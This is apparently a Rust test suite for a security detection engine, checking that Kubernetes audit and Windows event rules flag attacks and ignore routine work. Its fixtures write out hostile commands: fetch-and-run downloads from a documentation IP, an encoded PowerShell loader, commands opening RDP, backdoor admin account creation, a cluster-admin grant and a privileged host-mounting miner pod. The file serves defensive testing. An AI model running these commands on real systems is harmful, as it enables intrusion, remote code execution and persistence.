//! The rules on documents: their own examples, and records as they come, from bytes to alerts.

use serde_json::{Value as Json, json};
use std::collections::BTreeSet;
use std::sync::LazyLock;
use yagura_event::{DocumentEvent, DocumentSource, MonotonicNs};
use yagura_rules::fields::{Argument, Field, k8s_audit_values, windows_values};
use yagura_rules::rule::RuleSource;
use yagura_rules::{
    EventKind, LoadOptions, MapSubject, Match, Outcome, RuleSet, RuleState, Subject, Value,
};
use yagura_sources::{AuditReader, WindowsJsonReader};

/// A document as rules see it.
struct Document<'a>(&'a DocumentEvent);

impl Subject for Document<'_> {
    fn kind(&self) -> EventKind {
        match self.0.source {
            DocumentSource::K8sAudit => EventKind::Audit,
            DocumentSource::Windows => windows_values::windows_kind(&self.0.value),
        }
    }

    fn time(&self) -> MonotonicNs {
        MonotonicNs(u64::try_from(self.0.time.0).unwrap_or_default())
    }

    fn value(&self, field: Field, argument: &Argument) -> Value<'_> {
        if field == Field::EvtType {
            return Value::text(self.kind().as_str());
        }
        match self.0.source {
            DocumentSource::K8sAudit => k8s_audit_values::value(field, argument, &self.0.value),
            DocumentSource::Windows => windows_values::value(field, argument, &self.0.value),
        }
    }
}

fn rules() -> Vec<yagura_rules::rule::Rule> {
    let sources: Vec<_> = yagura_rules::catalogue::sources().collect();
    let loaded = yagura_rules::load(&sources, &LoadOptions::default());
    loaded
        .rules
        .into_iter()
        .filter(|rule| rule.source != RuleSource::Syscall)
        .collect()
}

/// The keys of the rules that match any of these events.
fn keys(events: &[DocumentEvent]) -> BTreeSet<String> {
    static SET: LazyLock<RuleSet> =
        LazyLock::new(|| RuleSet::compile(rules()).expect("the catalogue compiles"));
    let set = &*SET;
    let mut state = RuleState::new(set);
    let mut found = BTreeSet::new();
    for event in events {
        set.evaluate(&Document(event), &mut state, &mut |matched: Match<'_>| {
            if matched.outcome == Outcome::Matches {
                found.insert(matched.rule.key.clone().unwrap_or_default());
            }
        });
    }
    found
}

fn audit(events: &[Json]) -> BTreeSet<String> {
    let list =
        json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": events}).to_string();
    let events: Vec<_> = AuditReader::new(list.as_bytes())
        .map(|event| event.expect("an audit event"))
        .collect();
    keys(&events)
}

fn windows(events: &[Json]) -> BTreeSet<String> {
    let lines: Vec<String> = events.iter().map(Json::to_string).collect();
    let events: Vec<_> = WindowsJsonReader::new(lines.join("\n").as_bytes())
        .map(|event| event.expect("a Windows event"))
        .collect();
    keys(&events)
}

#[test]
fn the_rules_on_documents_load_without_a_word() {
    let sources: Vec<_> = yagura_rules::catalogue::sources().collect();
    let loaded = yagura_rules::load(&sources, &LoadOptions::default());
    let told: Vec<String> = loaded
        .diagnostics
        .iter()
        .filter(|diagnostic| {
            ["audit", "windows", "k8s"]
                .iter()
                .any(|part| diagnostic.file.contains(part))
        })
        .map(ToString::to_string)
        .collect();
    assert!(told.is_empty(), "{}", told.join("\n"));
}

#[test]
fn every_rule_holds_its_examples() {
    let mut wrong = Vec::new();
    for rule in rules() {
        let (fires, silent): (Vec<_>, Vec<_>) = rule.tests.iter().partition(|test| test.fires);
        if fires.is_empty() || silent.is_empty() {
            wrong.push(format!("{}: lacks an example", rule.name));
        }
        let set = RuleSet::compile(vec![rule.clone()]).expect("the rule compiles");
        for test in &rule.tests {
            let mut state = RuleState::new(&set);
            let mut fired = false;
            for event in &test.events {
                let subject = match MapSubject::from_test(event, rule.source) {
                    Ok(subject) => subject,
                    Err(error) => {
                        wrong.push(format!("{}: {}: {error}", rule.name, test.name));
                        continue;
                    }
                };
                set.evaluate(&subject, &mut state, &mut |matched: Match<'_>| {
                    fired |= matched.outcome == Outcome::Matches;
                });
            }
            if fired != test.fires {
                wrong.push(format!("{}: {}", rule.name, test.name));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// An audit event as the API server writes it.
fn request(user: &str, verb: &str, uri: &str, target: &Json, code: u16) -> Json {
    json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": format!("{user}{verb}{uri}"),
        "stage": "ResponseComplete", "requestURI": uri, "verb": verb, "sourceIPs": ["10.0.0.7"],
        "user": {"username": user, "groups": ["system:authenticated"]}, "userAgent": "kubectl/v1.29.0 (linux/amd64) kubernetes/4b8e819",
        "objectRef": target, "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": "2024-05-01T10:00:00.000001Z", "stageTimestamp": "2024-05-01T10:00:00.100001Z",
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }, "authorization.k8s.io/reason": ""}
    })
}

fn with(mut event: Json, key: &str, value: Json) -> Json {
    event[key] = value;
    event
}

fn set_of(names: &[&str]) -> BTreeSet<String> {
    names.iter().map(|&name| name.to_owned()).collect()
}

const API: &str = "k8s.api_suspicious_command";
const MOUNT: &str = "k8s.suspicious_mount";
const LATERAL: &str = "k8s.sa_lateral_movement";
const IMAGE: &str = "k8s.malicious_image_pod";
const PRIVILEGED: &str = "proc.privileged_container";

#[test]
fn attacks_on_the_api_are_told() {
    let exec = json!({"resource": "pods", "subresource": "exec", "namespace": "default", "name": "web", "apiVersion": "v1"});
    let shell = request(
        "kubernetes-admin",
        "create",
        "/api/v1/namespaces/default/pods/web/exec?command=sh&stdin=true&tty=true",
        &exec,
        101,
    );
    assert_eq!(
        audit(&[with(shell.clone(), "stage", json!("ResponseStarted"))]),
        set_of(&[API])
    );
    assert_eq!(
        audit(&[with(shell, "stage", json!("RequestReceived"))]),
        set_of(&[])
    );

    let secrets = json!({"resource": "secrets", "apiVersion": "v1"});
    let list = request(
        "system:anonymous",
        "list",
        "/api/v1/secrets?limit=500",
        &secrets,
        200,
    );
    assert_eq!(audit(&[list]), set_of(&[API]));

    let bindings = json!({"resource": "clusterrolebindings", "name": "pwn", "apiGroup": "rbac.authorization.k8s.io"});
    let grant = with(
        request(
            "dev",
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            &bindings,
            201,
        ),
        "requestObject",
        json!({"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]}),
    );
    assert_eq!(audit(&[grant]), set_of(&[API]));
}

#[test]
fn attacks_by_workloads_are_told() {
    let pods = json!({"resource": "pods", "namespace": "default", "apiVersion": "v1"});
    let pod = with(
        request(
            "dev",
            "create",
            "/api/v1/namespaces/default/pods",
            &pods,
            201,
        ),
        "requestObject",
        json!({"kind": "Pod", "spec": {"containers": [{"name": "c", "image": "kannix/monero-miner", "securityContext": {"privileged": true}, "volumeMounts": [{"name": "h", "mountPath": "/host"}]}],
            "volumes": [{"name": "h", "hostPath": {"path": "/", "type": ""}}]}}),
    );
    assert_eq!(audit(&[pod]), set_of(&[MOUNT, IMAGE, PRIVILEGED]));

    let cron = with(
        request(
            "dev",
            "create",
            "/apis/batch/v1/namespaces/default/cronjobs",
            &json!({"resource": "cronjobs", "namespace": "default", "name": "x"}),
            201,
        ),
        "requestObject",
        json!({"spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {"spec": {"containers": [{"image": "alpine", "command": ["/bin/sh", "-c"], "args": ["wget -qO- http://203.0.113.7/x | sh"]}]}}}}}}),
    );
    assert_eq!(audit(&[cron]), set_of(&[API]));
}

#[test]
fn movement_between_accounts_is_told() {
    let configmaps = json!({"resource": "configmaps", "namespace": "default"});
    let first = request(
        "system:serviceaccount:default:web",
        "list",
        "/api/v1/namespaces/default/configmaps",
        &configmaps,
        200,
    );
    let second = request(
        "system:serviceaccount:default:db",
        "list",
        "/api/v1/namespaces/default/configmaps",
        &configmaps,
        200,
    );
    assert_eq!(audit(&[first.clone(), second]), set_of(&[LATERAL]));
    assert_eq!(audit(&[first.clone(), first]), set_of(&[]));

    let token = json!({"resource": "serviceaccounts", "subresource": "token", "namespace": "default", "name": "admin"});
    let taken = request(
        "system:serviceaccount:default:web",
        "create",
        "/api/v1/namespaces/default/serviceaccounts/admin/token",
        &token,
        201,
    );
    assert_eq!(audit(&[taken]), set_of(&[LATERAL]));

    let pods = json!({"resource": "pods", "namespace": "kube-system"});
    let strong = with(
        request(
            "system:serviceaccount:default:web",
            "create",
            "/api/v1/namespaces/kube-system/pods",
            &pods,
            201,
        ),
        "requestObject",
        json!({"spec": {"serviceAccountName": "daemon-set-controller", "containers": [{"image": "alpine"}]}}),
    );
    assert_eq!(audit(&[strong]), set_of(&[LATERAL]));
}

#[test]
fn the_parts_of_a_cluster_are_silent() {
    let secret = json!({"resource": "secrets", "namespace": "default", "name": "db"});
    let token = json!({"resource": "serviceaccounts", "subresource": "token", "namespace": "default", "name": "web"});
    let pods = json!({"resource": "pods", "namespace": "kube-system"});
    let lease = json!({"resource": "leases", "namespace": "kube-system", "name": "kube-scheduler", "apiGroup": "coordination.k8s.io"});
    let proxy = json!({"spec": {"hostNetwork": true, "serviceAccountName": "kube-proxy",
        "containers": [{"image": "registry.k8s.io/kube-proxy:v1.29.0", "securityContext": {"privileged": true}}],
        "volumes": [{"name": "m", "hostPath": {"path": "/lib/modules"}}, {"name": "x", "hostPath": {"path": "/run/xtables.lock"}}]}});
    let daemons = "system:serviceaccount:kube-system:daemon-set-controller";
    let pod = request(
        daemons,
        "create",
        "/api/v1/namespaces/kube-system/pods",
        &pods,
        201,
    );
    let renewed = "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler";
    let taken = "/api/v1/namespaces/default/serviceaccounts/web/token";
    let read = "/api/v1/namespaces/default/secrets/db";
    let events = [
        (
            "kubelet/v1.29.0",
            request("system:node:n1", "get", read, &secret, 200),
        ),
        (
            "kubelet/v1.29.0",
            request("system:node:n1", "create", taken, &token, 201),
        ),
        (
            "kube-controller-manager/v1.29.0",
            with(pod, "requestObject", proxy),
        ),
        (
            "kube-scheduler/v1.29.0",
            request("system:kube-scheduler", "update", renewed, &lease, 200),
        ),
        (
            "kube-probe/1.29",
            request("system:anonymous", "get", "/healthz", &Json::Null, 200),
        ),
    ];
    assert_eq!(audit(&events.map(by)), set_of(&[]));
}

#[test]
fn operators_and_people_at_their_work_are_silent() {
    let secrets = json!({"resource": "secrets"});
    let deployments = json!({"resource": "deployments", "namespace": "default", "name": "web"});
    let web = json!({"spec": {"template": {"spec": {"serviceAccountName": "web", "containers": [{"image": "nginx:1.27", "command": ["nginx", "-g", "daemon off;"]}]}}}});
    let made = request(
        "dev",
        "create",
        "/apis/apps/v1/namespaces/default/deployments",
        &deployments,
        201,
    );
    let certificates = "system:serviceaccount:cert-manager:cert-manager";
    let argo = "system:serviceaccount:argocd:argocd-application-controller";
    let prometheus = "system:serviceaccount:monitoring:prometheus";
    let list = "/api/v1/secrets?limit=500&resourceVersion=0";
    let events = [
        ("kubectl/v1.29.0", with(made, "requestObject", web)),
        (
            "cert-manager-controller/v1.14.0",
            request(certificates, "list", list, &secrets, 200),
        ),
        (
            "argocd-application-controller/v0.0.0",
            request(argo, "watch", "/api/v1/secrets?watch=true", &secrets, 200),
        ),
        (
            "Prometheus/2.50.0",
            request(prometheus, "get", "/metrics", &Json::Null, 200),
        ),
        (
            "kubectl/v1.29.0",
            request(
                "dev",
                "get",
                "/api/v1/namespaces/default/pods?limit=500",
                &json!({"resource": "pods"}),
                200,
            ),
        ),
    ];
    assert_eq!(audit(&events.map(by)), set_of(&[]));
}

/// An event with the name that its client gives itself.
fn by((agent, event): (&str, Json)) -> Json {
    with(event, "userAgent", json!(agent))
}

const RDP: &str = "proc.windows_rdp_3389";
const DOWNLOAD: &str = "proc.windows_download";
const ACCOUNT: &str = "proc.windows_account_creation";

/// A record of Sysmon as log collectors flatten it.
fn process(image: &str, command_line: &str) -> Json {
    json!({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "WS01",
        "@timestamp": "2020-05-02T02:55:56.157Z", "Image": image, "CommandLine": command_line, "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "WS01\\bob"})
}

fn base64_utf16(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let mut group = [0_u8; 4];
        group[1..=chunk.len()].copy_from_slice(chunk);
        let number = u32::from_be_bytes(group);
        for place in 0..4 {
            let digit = char::from(DIGITS[(number >> (18 - 6 * place) & 63) as usize]);
            out.push(if place > chunk.len() { '=' } else { digit });
        }
    }
    out
}

#[test]
fn commands_on_windows_are_told() {
    let encoded = base64_utf16(
        "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name 'fDenyTSConnections' -Value 0",
    );
    let loader =
        base64_utf16("IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')");
    for (line, key) in [
        (r#"reg  add "HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#.to_owned(), RDP),
        (r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f"#.to_owned(), RDP),
        (r#"netsh advfirewall firewall add rule name="Open Remote Desktop" protocol=TCP dir=in localport=3389 action=allow"#.to_owned(), RDP),
        (r#"netsh firewall set service type = remotedesktop mode = enable"#.to_owned(), RDP),
        (r#"netsh interface portproxy add v4tov4 listenport=8001 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.0.9"#.to_owned(), RDP),
        (r#"WMIC.exe /namespace:\\root\cimv2\terminalservices path Win32_TerminalServiceSetting where (__CLASS != "") call SetAllowTSConnections 1"#.to_owned(), RDP),
        (format!("powershell.exe -NoP -W Hidden -EncodedCommand {encoded}"), RDP),
        (format!("powershell -nop -w hidden -e {loader}"), DOWNLOAD),
        (r#"c^e^r^t^u^t^i^l -urlcache -f "http://203.0.113.7/a" a.exe"#.to_owned(), DOWNLOAD),
        (r#"powershell "(New-Object ('Net.'+'WebClient')).('Download'+'File').Invoke('http://203.0.113.7/a','a.exe')""#.to_owned(), DOWNLOAD),
        (r#""C:\Windows\System32\mshta.exe" https://203.0.113.7/x.hta"#.to_owned(), DOWNLOAD),
        (r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://203.0.113.7/x.sct")"#.to_owned(), DOWNLOAD),
        (r#"regsvr32.exe /s /u /i:https://203.0.113.7/x.sct scrobj.dll"#.to_owned(), DOWNLOAD),
        (r#"bitsadmin.exe /transfer /Download /priority Foreground https://203.0.113.7/a.ps1 C:\a.ps1"#.to_owned(), DOWNLOAD),
        (r#"cmd /c curl http://203.0.113.7/a.exe -o %TEMP%\a.exe"#.to_owned(), DOWNLOAD),
        (r#"net  user "eve" "P@ss" /add"#.to_owned(), ACCOUNT),
        (r#"C:\Windows\system32\net1 localgroup Administrators eve /ADD"#.to_owned(), ACCOUNT),
        (r#"powershell New-LocalUser -Name "eve" -NoPassword"#.to_owned(), ACCOUNT),
    ] {
        assert_eq!(windows(&[process("C:\\x.exe", &line)]), set_of(&[key]), "{line}");
    }
}

#[test]
fn ordinary_work_on_windows_is_silent() {
    for line in [
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS",
        r#""C:\Program Files (x86)\Google\Chrome\Application\chrome.exe" --type=renderer https://www.example.com/"#,
        r#"reg query "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections"#,
        r#""C:\Windows\system32\mstsc.exe" /v:server"#,
        r"net user /domain",
        r"net localgroup administrators",
        r#"net use \\server\share /user:CORP\alice"#,
        r"netsh advfirewall show allprofiles",
        r"certutil -hashfile a.exe SHA256",
        r#"powershell.exe -NoProfile -Command "Get-Process | Where-Object CPU -gt 10""#,
        r"C:\Windows\system32\wuauclt.exe /RunHandlerComServer",
        r#"msiexec.exe /i "C:\Windows\ccmcache\1\app.msi" /qn"#,
        r"rundll32.exe C:\Windows\system32\shell32.dll,Control_RunDLL",
        r"regsvr32 /s C:\app\a.dll",
        r"bitsadmin /list /allusers",
        r"choco install git -y",
    ] {
        assert_eq!(
            windows(&[process("C:\\x.exe", line)]),
            set_of(&[]),
            "{line}"
        );
    }
}

#[test]
fn what_windows_logs_of_changes_is_told() {
    let created = json!({"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": 4720, "Channel": "Security", "Computer": "WS01"},
        "EventData": {"TargetUserName": "eve", "SubjectUserName": "bob", "SubjectDomainName": "WS01"}}});
    assert_eq!(windows(&[created]), set_of(&[ACCOUNT]));
    let member = json!({"winlog": {"event_id": 4732, "channel": "Security", "event_data": {"MemberSid": "S-1-5-21-1-2-3-1001", "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544"}}});
    assert_eq!(windows(&[member]), set_of(&[ACCOUNT]));
    let registry = json!({"EventID": 13, "Channel": "Microsoft-Windows-Sysmon/Operational", "EventType": "SetValue", "Image": "C:\\Windows\\regedit.exe",
        "TargetObject": "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "Details": "DWORD (0x00000000)"});
    assert_eq!(windows(&[registry]), set_of(&[RDP]));
    let script = json!({"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": "$c=New-Object System.Net.WebClient;$c.DownloadFile('http://203.0.113.7/a','a')"});
    assert_eq!(windows(&[script]), set_of(&[DOWNLOAD]));
    let service = json!({"EventID": 7045, "Channel": "System", "SourceName": "Service Control Manager", "ImagePath": "%COMSPEC% /c net user eve P@ss /add"});
    assert_eq!(windows(&[service]), set_of(&[ACCOUNT]));
}
